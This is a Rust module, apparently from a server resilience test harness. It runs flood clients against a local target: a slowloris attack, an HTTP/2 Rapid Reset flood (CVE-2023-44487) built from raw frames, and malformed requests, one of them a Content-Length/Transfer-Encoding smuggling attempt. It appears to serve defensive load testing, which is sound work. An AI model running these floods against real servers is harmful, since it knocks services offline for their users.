//! Clients that mean no good, each at a rate of its own: more of them would measure the processors that they need.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{MissedTickBehavior, interval, sleep, timeout};

use crate::roles::DOMAIN;

/// Slow clients at once.
pub const SLOW: usize = 2000;
/// HTTP/2 requests, and malformed ones, a second.
pub const PER_SECOND: usize = 1000;
/// Connections that HTTP/2 requests come on.
const H2_CONNECTIONS: usize = 10;
/// Between two bytes of a slow client, and before it comes again when it was cut.
const SLOWLY: Duration = Duration::from_secs(1);
/// How long a malformed request waits for its answer.
const ANSWER: Duration = Duration::from_millis(50);
const TICK: Duration = Duration::from_millis(2);
/// Addresses that floods come from, where it is not one alone.
const ADDRESSES: usize = 100;

/// The role: says that it is ready, and goes on until it is ended.
pub async fn play(words: &[&str]) {
    let to: SocketAddr = words[1].parse().unwrap();
    println!("0");
    match words[0] {
        "slow-many" => slow(to, ADDRESSES).await,
        "slow-one" => slow(to, 1).await,
        "resets" => resets(to).await,
        "malformed" => malformed(to).await,
        other => panic!("there is no flood {other}"),
    }
}

/// The `n`th address of so many, none of which is the healthy client's.
fn address(n: usize, of: usize) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, 2, 1 + (n % of) as u8)
}

async fn connect(from: Ipv4Addr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((from, 0).into())?;
    socket.connect(to).await
}

/// Heads that never end, a byte a second.
async fn slow(to: SocketAddr, addresses: usize) {
    for n in 0..SLOW {
        tokio::spawn(async move {
            // They do not all come at once, nor speak at once.
            sleep(SLOWLY * n as u32 / SLOW as u32).await;
            loop {
                if let Ok(mut stream) = connect(address(n, addresses), to).await {
                    let begin = format!("GET / HTTP/1.1\r\nHost: web.{DOMAIN}\r\nX-Slow: ");
                    let mut sent = stream.write_all(begin.as_bytes()).await;
                    while sent.is_ok() {
                        sleep(SLOWLY).await;
                        sent = stream.write_all(b"a").await;
                    }
                }
                sleep(SLOWLY).await;
            }
        });
    }
    std::future::pending().await
}

/// Requests that are given up as soon as they are sent (CVE-2023-44487).
async fn resets(to: SocketAddr) {
    let per_tick = PER_SECOND * TICK.as_millis() as usize / 1000;
    let every = TICK * H2_CONNECTIONS as u32;
    for n in 0..H2_CONNECTIONS {
        tokio::spawn(async move {
            sleep(TICK * n as u32).await;
            let mut tick = interval(every);
            tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
            loop {
                tick.tick().await;
                let Ok(stream) = connect(address(n, ADDRESSES), to).await else {
                    continue;
                };
                let (mut from, mut to) = stream.into_split();
                let heard = tokio::spawn(async move {
                    let _until_cut = tokio::io::copy(&mut from, &mut tokio::io::sink()).await;
                });
                // An empty SETTINGS after the preface (RFC 9113, 3.4).
                let mut sent = to
                    .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
                    .await;
                let mut stream = 1_u32;
                while sent.is_ok() && !heard.is_finished() {
                    tick.tick().await;
                    let mut frames = Vec::new();
                    for _ in 0..per_tick {
                        frames.extend(given_up(stream));
                        stream += 2;
                    }
                    sent = to.write_all(&frames).await;
                }
            }
        });
    }
    std::future::pending().await
}

/// HEADERS of a whole request, and RST_STREAM with CANCEL (RFC 9113, 6.2 and 6.4; RFC 7541, appendix A for the fields).
fn given_up(stream: u32) -> Vec<u8> {
    let authority = format!("web.{DOMAIN}");
    let mut fields = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    fields.extend(authority.as_bytes());
    let id = stream.to_be_bytes();
    let mut frames = vec![0, 0, fields.len() as u8, 0x01, 0x05];
    frames.extend(id);
    frames.extend(fields);
    frames.extend([0, 0, 4, 0x03, 0]);
    frames.extend(id);
    frames.extend([0, 0, 0, 8]);
    frames
}

/// One bad head per connection.
async fn malformed(to: SocketAddr) {
    const BAD: [&str; 4] = [
        "GET / HTTP/1.1\nHost: web.vms.localhost\n\n",
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
        "GET / HTTP/9.9\r\n\r\n",
        "\0\x01\x02\x03\r\n\r\n",
    ];
    let per_tick = PER_SECOND * TICK.as_millis() as usize / 1000;
    let mut tick = interval(TICK);
    tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut n = 0;
    loop {
        tick.tick().await;
        for _ in 0..per_tick {
            n += 1;
            tokio::spawn(async move {
                if let Ok(mut stream) = connect(address(n, ADDRESSES), to).await
                    && stream
                        .write_all(BAD[n % BAD.len()].as_bytes())
                        .await
                        .is_ok()
                {
                    let _answer = timeout(ANSWER, stream.read_to_end(&mut Vec::new())).await;
                }
            });
        }
    }
}
